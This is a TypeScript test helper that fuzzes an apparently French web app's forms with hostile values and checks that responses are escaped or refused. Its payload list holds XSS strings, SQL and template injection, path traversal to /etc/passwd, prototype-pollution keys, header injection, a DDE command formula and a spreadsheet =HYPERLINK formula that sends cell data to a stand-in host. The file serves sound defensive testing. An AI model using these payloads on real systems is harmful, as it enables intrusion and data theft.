// Hostile values for every form of the app (tests/http/hostile-inputs.test.ts), how to put one in
// a form's body, how to read a form's fields from a page, and what a safe answer looks like.

/** The urlencoded pairs a hostile input puts in the body in place of `field`. */
type Pairs = (field: string) => [string, string][];

type HostileInput = { name: string; pairs: Pairs };

const text =
  (value: string): Pairs =>
  (field) => [[field, value]];

const SCRIPT = "<script>alert(1)</script>";

/** At least one of each kind the issue names: markup, sizes, invisible characters, numbers,
 * dates, arrays and objects, spreadsheet formulas, paths, SQL. */
export const HOSTILE_INPUTS: readonly HostileInput[] = [
  { name: "script tag", pairs: text(SCRIPT) },
  { name: "attribute break with onerror", pairs: text('"><img src=x onerror=alert(1)>') },
  { name: "svg onload", pairs: text("<svg onload=alert(1)>") },
  { name: "single-quote attribute break", pairs: text("' onmouseover='alert(1)") },
  { name: "javascript: URL", pairs: text("javascript:alert(1)") },
  { name: "data: URL with markup", pairs: text(`data:text/html,${SCRIPT}`) },
  { name: "100 000 characters", pairs: text("A".repeat(100_000)) },
  { name: "right-to-left override (U+202E)", pairs: text("Camille \u202Efdp.exe") },
  { name: "zero-width space and joiner", pairs: text("Ca\u200Bmi\u200Dlle") },
  { name: "NUL byte", pairs: text("abc\u0000def") },
  { name: "line break and header", pairs: text("abc\r\nSet-Cookie: pris=1") },
  { name: "emoji and astral characters", pairs: text("🚗💨 𝕊𝕡𝕚𝕕 👩🏽‍🦱") },
  { name: "CSV =HYPERLINK", pairs: text('=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")') },
  { name: "CSV DDE =cmd", pairs: text("=cmd|' /C calc'!A0") },
  { name: "CSV leading +", pairs: text("+SUM(1;1)") },
  { name: "CSV leading -", pairs: text("-1+1") },
  { name: "CSV leading @", pairs: text("@SUM(1+1)*cmd|' /C calc'!A0") },
  { name: "negative amount", pairs: text("-5") },
  { name: "1e309 (infinite double)", pairs: text("1e309") },
  { name: "20-digit number", pairs: text("99999999999999999999") },
  { name: "NaN", pairs: text("NaN") },
  { name: "Infinity", pairs: text("Infinity") },
  { name: "two decimal commas", pairs: text("12,5,5") },
  { name: "30 February", pairs: text("2026-02-30") },
  { name: "year 9999", pairs: text("9999-12-31") },
  { name: "year 1", pairs: text("0001-01-01") },
  {
    name: "the field sent twice (array)",
    pairs: (field) => [
      [field, "a"],
      [field, "b"],
    ],
  },
  {
    name: "bracket array field[]",
    pairs: (field) => [
      [`${field}[]`, "a"],
      [`${field}[]`, "b"],
    ],
  },
  { name: "bracket object field[a]", pairs: (field) => [[`${field}[a]`, "b"]] },
  {
    name: "prototype keys",
    pairs: (field) => [
      [field, "x"],
      ["__proto__[admin]", "1"],
      ["constructor[prototype][admin]", "1"],
    ],
  },
  { name: "SQL-ish", pairs: text("' OR 1=1 --") },
  { name: "path traversal", pairs: text("../../etc/passwd") },
  { name: "template syntax", pairs: text("<%= process.env %>{{7*7}}${7*7}") },
  { name: "already escaped entities", pairs: text("&lt;script&gt;alert(1)&lt;/script&gt;") },
  { name: "blank", pairs: text("   ") },
];

// Markup that only appears in a page when a hostile value was written into it unescaped.
// (Text between tags may hold quotes and "onmouseover=" harmlessly: only markup counts.)
const UNESCAPED = [/<script>alert\(1\)/i, /<img src=x onerror/i, /<svg onload/i, /(href|src|action)\s*=\s*["']?\s*(javascript|data):/i];
const TAG = /<[a-zA-Z][^>]*>/g;
const QUOTED = /"[^"]*"|'[^']*'/g;
// The app's own markup has no inline event handler (its CSP would block them anyway).
const EVENT_HANDLER = /\son[a-z]+\s*=/i;

/** Why an HTML page is unsafe (a hostile value written unescaped), or null. */
export function unescapedMarkup(html: string): string | null {
  const around = (index: number) => html.slice(Math.max(0, index - 80), index + 80);
  for (const pattern of UNESCAPED) {
    const match = pattern.exec(html);
    if (match) return around(match.index);
  }
  for (const tag of html.matchAll(TAG)) {
    if (EVENT_HANDLER.test(tag[0].replace(QUOTED, '""'))) return around(tag.index);
  }
  return null;
}

/** A 4xx answer in French: the app's page (lang="fr") or its JSON error. */
export function isFrenchRefusal(contentType: string | undefined, body: string): boolean {
  if (contentType?.includes("text/html")) return body.includes('<html lang="fr"');
  if (contentType?.includes("application/json")) return /"error":"[^"]*[a-zà-ÿ ]{4,}/.test(body);
  return false;
}

/** A field of a form, with a plausible value to send when the test does not replace it. */
type FormField = { name: string; value: string; textual: boolean };

const attribute = (tag: string, name: string) => new RegExp(`\\s${name}="([^"]*)"`).exec(tag)?.[1];

const decode = (value: string) =>
  value.replaceAll("&#34;", '"').replaceAll("&#39;", "'").replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");

function plausible(type: string, value: string | undefined): string {
  if (value) return decode(value);
  const inAWeek = new Date(Date.now() + 7 * 86_400_000).toISOString().slice(0, 10);
  const byType: Record<string, string> = {
    date: inAWeek,
    "datetime-local": `${inAWeek}T10:00`,
    time: "10:00",
    month: inAWeek.slice(0, 7),
    number: "1",
    email: "jeune@exemple.fr",
    tel: "0601020304",
    url: "https://www.service-public.fr",
  };
  return byType[type] ?? "Texte ordinaire";
}

/** The fields of the page's form(s) posting to `action`, in page order, each with a value. */
export function formFields(html: string, action: string): FormField[] {
  const fields = new Map<string, FormField>();
  for (const form of html.matchAll(/<form\b([^>]*)>([\s\S]*?)<\/form>/g)) {
    if (attribute(form[1] ?? "", "action") !== action || !/method="post"/i.test(form[1] ?? "")) continue;
    const inner = form[2] ?? "";
    for (const match of inner.matchAll(/<(input|textarea|select)\b([^>]*)>([\s\S]*?<\/select>)?/g)) {
      const [, tag = "", attributes = "", options = ""] = match;
      const name = attribute(attributes, "name");
      if (!name || name === "_csrf" || fields.has(name)) continue;
      const type = tag === "input" ? (attribute(attributes, "type") ?? "text") : tag;
      if (["submit", "button", "file", "reset"].includes(type)) continue;
      if (tag === "select") {
        const values = [...options.matchAll(/<option\b([^>]*)>/g)].map((o) => attribute(o[1] ?? "", "value") ?? "");
        fields.set(name, { name, value: decode(values.find((v) => v !== "") ?? ""), textual: false });
      } else if (type === "checkbox" || type === "radio") {
        fields.set(name, { name, value: decode(attribute(attributes, "value") ?? "on"), textual: false });
      } else {
        const textual = ["text", "textarea", "search", "email", "tel", "url"].includes(type);
        const value = attribute(attributes, "value");
        fields.set(name, { name, value: type === "hidden" ? decode(value ?? "") : plausible(type, value), textual });
      }
    }
  }
  return [...fields.values()];
}

/** An urlencoded body: the base fields, `field` replaced by the hostile input, and the token. */
export function hostileBody(base: Record<string, string>, field: string, input: HostileInput, csrf: string): string {
  const params = new URLSearchParams();
  for (const [name, value] of Object.entries(base)) if (name !== field) params.append(name, value);
  for (const [name, value] of input.pairs(field)) params.append(name, value);
  params.append("_csrf", csrf);
  return params.toString();
}
